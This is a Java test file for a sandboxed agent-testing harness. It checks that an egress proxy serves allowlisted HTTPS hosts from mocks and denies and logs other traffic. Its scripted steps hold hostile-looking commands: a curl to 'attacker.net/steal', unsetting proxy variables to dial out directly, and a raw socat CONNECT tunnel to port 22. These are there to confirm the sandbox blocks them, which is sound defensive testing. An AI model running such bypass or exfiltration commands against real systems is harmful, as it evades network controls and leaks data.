package dev.gauntlet.loop;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.groups.Tuple.tuple;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.gauntlet.KeptWorkspaces;
import dev.gauntlet.network.EgressLog;
import dev.gauntlet.network.EgressRecord;
import dev.gauntlet.scenario.Scenario;
import dev.gauntlet.scenario.ScenarioLoader;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Run commands in the real bubblewrap sandbox with real curl, whose only way out is the egress
 * proxy: rows 26 to 28 of the egress-bypass cases, and HTTPS to a mocked host through the harness
 * CA. Every request ends at a WireMock mock on 127.0.0.1 or is refused.
 */
class CommandEgressTests {

  private static final String NETWORK =
      """
      network:
        policy:
          allow: [ { host: example.com, methods: [GET, POST] } ]
        mocks:
          - host: example.com
            path: /x
            responses: [ { status: 200, body: "hello from the mock" } ]
      """;

  @TempDir Path folder;

  @RegisterExtension final KeptWorkspaces kept = new KeptWorkspaces();

  private ScenarioRunner runner;

  @BeforeEach
  void needsTheSandboxAndItsTools() {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/bwrap")), "bubblewrap is not installed");
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/socat")), "socat is not installed");
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/curl")), "curl is not installed");
    runner = new ScenarioRunner(new RunSettings(folder.resolve("reports"), "run", false));
  }

  @AfterEach
  void stopTheMockServer() {
    if (runner != null) {
      runner.close();
    }
  }

  @Test
  void curlInTheSandboxGetsTheMockBodyOfAnAllowlistedHttpsHost() throws IOException {
    ScenarioResult result =
        run(
            """
            - shell: "curl -sS --fail https://example.com/x > body.txt"
            """,
            """
            files:
              body.txt: { contains: "hello from the mock" }
            network: { denied: 0, everyMockUsed: true }
            """);

    assertThat(result.failures()).isEmpty();
    assertThat(egress(result))
        .singleElement()
        .satisfies(
            record -> {
              assertThat(record.url()).isEqualTo("https://example.com/x");
              assertThat(record.decision()).isEqualTo("allow");
              assertThat(record.status()).isEqualTo(200);
              assertThat(record.step()).isEqualTo(1);
            });
  }

  @Test
  void curlToAHostNotOnTheAllowlistIsDeniedAndLoggedWithTheStepOfItsCommand() throws IOException {
    ScenarioResult result =
        run(
            """
            - write: { path: notes.txt, content: "first step" }
            - shell: "curl -s -o /dev/null -w '%{http_connect} %{exitcode}' https://attacker.net/ > seen.txt; true"
            """,
            """
            files:
              seen.txt: { contains: "403 56" }
            network: { denied: 1, deniedBy: { not_allowlisted: 1 } }
            """);

    assertThat(result.failures()).isEmpty();
    assertThat(egress(result))
        .singleElement()
        .satisfies(
            record -> {
              assertThat(record.method()).isEqualTo("CONNECT");
              assertThat(record.host()).isEqualTo("attacker.net");
              assertThat(record.decision()).isEqualTo("deny");
              assertThat(record.reason()).isEqualTo("not_allowlisted");
              assertThat(record.step()).isEqualTo(2);
            });
  }

  @Test
  void oneScenarioGetsTheMockOverHttpsAndIsRefusedTheHostOffTheAllowlist() throws IOException {
    ScenarioResult result =
        run(
            """
            - shell: "curl -sS --fail https://example.com/x > body.txt"
            - shell: "curl -sS https://attacker.net/steal > stolen.txt"
            - shell: "curl -sS --fail https://example.com/x >> body.txt"
            """,
            """
            outcome: success
            files:
              body.txt: { equals: "hello from the mockhello from the mock" }
              stolen.txt: { equals: "" }
            network: { denied: 1, deniedBy: { not_allowlisted: 1 }, everyMockUsed: true }
            """);

    assertThat(result.failures()).isEmpty();
    assertThat(egress(result))
        .extracting(EgressRecord::step, EgressRecord::host, EgressRecord::decision)
        .containsExactly(
            tuple(1, "example.com", "allow"),
            tuple(2, "attacker.net", "deny"),
            tuple(3, "example.com", "allow"));
  }

  @Test
  void aCommandThatUnsetsTheProxyVariablesAndDialsDirectlyReachesNothing() throws IOException {
    try (ServerSocket harness = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      ScenarioResult result = dialDirectly(harness.getLocalPort());

      assertThat(result.failures()).isEmpty();
      List<String> seen = Files.readAllLines(result.workspace().resolve("seen.txt"));
      // No route for an address, no resolver for a name, and 127.0.0.1 is the sandbox's own
      // loopback, not the harness's.
      assertThat(seen).containsExactly("address 7", "name 6", "harness 7");
      assertThat(egress(result)).isEmpty();
      harness.setSoTimeout(1);
      assertThatThrownBy(harness::accept).isInstanceOf(SocketTimeoutException.class);
    }
  }

  private ScenarioResult dialDirectly(int harnessPort) throws IOException {
    return run(
        """
            - shell: |
                unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY
                curl -s --max-time 5 -o /dev/null https://93.184.215.14/ ; echo "address $?" > seen.txt
                curl -s --max-time 5 -o /dev/null https://example.com/x ; echo "name $?" >> seen.txt
                curl -s --max-time 5 -o /dev/null http://127.0.0.1:%d/ ; echo "harness $?" >> seen.txt
                true
            """
            .formatted(harnessPort),
        """
            files:
              seen.txt: { contains: "address 7" }
            """);
  }

  @Test
  void plainHttpThroughTheProxyIsJudgedByTheSamePolicy() throws IOException {
    ScenarioResult result =
        run(
            """
            - shell: "curl -s -i http://example.com/x > seen.txt"
            """,
            """
            files:
              seen.txt: { matches: "(?s)HTTP/1.1 403.*X-Gauntlet-Denied: scheme" }
            network: { denied: 1, deniedBy: { scheme: 1 } }
            """);

    assertThat(result.failures()).isEmpty();
    assertThat(egress(result))
        .extracting(EgressRecord::method, EgressRecord::url, EgressRecord::step)
        .containsExactly(tuple("GET", "http://example.com/x", 1));
  }

  @Test
  void aTunnelToAPortOtherThan443IsDeniedWithReasonPort() throws IOException {
    ScenarioResult result =
        run(
            """
            - shell: "curl -s -p -o /dev/null -w '%{http_connect}' http://example.com:22/ > curl.txt; true"
            - shell: "printf 'CONNECT example.com:22 HTTP/1.1\\r\\nHost: example.com:22\\r\\n\\r\\n' | socat -t 5 - TCP:127.0.0.1:3128 > raw.txt; true"
            """,
            """
            files:
              curl.txt: { contains: "403" }
              raw.txt: { contains: "X-Gauntlet-Denied: port" }
            network: { denied: 2, deniedBy: { port: 2 } }
            """);

    assertThat(result.failures()).isEmpty();
    assertThat(egress(result))
        .extracting(EgressRecord::method, EgressRecord::reason, EgressRecord::step)
        .containsExactly(tuple("CONNECT", "port", 1), tuple("CONNECT", "port", 2));
  }

  @Test
  void nothingOfTheProxyIsLeftRunningAfterTheScenario() throws IOException {
    ScenarioResult result =
        run(
            """
            - shell: "curl -sS --fail https://example.com/x > body.txt"
            - shell: "curl -s https://example.com/x > /dev/null"
            """,
            """
            files:
              body.txt: { contains: "hello" }
            """);

    assertThat(result.failures()).isEmpty();
    assertThat(Thread.getAllStackTraces().keySet())
        .extracting(Thread::getName)
        .noneMatch(name -> name.startsWith("gauntlet-proxy-" + result.scenario().id()));
    assertThat(ProcessHandle.current().descendants())
        .noneMatch(
            process ->
                process.isAlive()
                    && process.info().command().orElse("").matches(".*/(socat|bwrap|curl)$"));
  }

  private ScenarioResult run(String script, String expect) throws IOException {
    String id = "egress-" + Long.toHexString(System.nanoTime());
    String yaml =
        "id: "
            + id
            + "\nworkspace: { keep: true }\n"
            + NETWORK
            + "agent:\n  scripted:\n"
            + script.indent(4)
            + "expect:\n"
            + expect.indent(2);
    Path file = folder.resolve(id + ".yaml");
    Files.writeString(file, yaml);
    Scenario scenario = new ScenarioLoader().load(file).get(0);
    return kept.of(runner.run(scenario));
  }

  private static List<EgressRecord> egress(ScenarioResult result) throws IOException {
    return EgressLog.read(result.trace().resolveSibling("egress.jsonl"));
  }
}
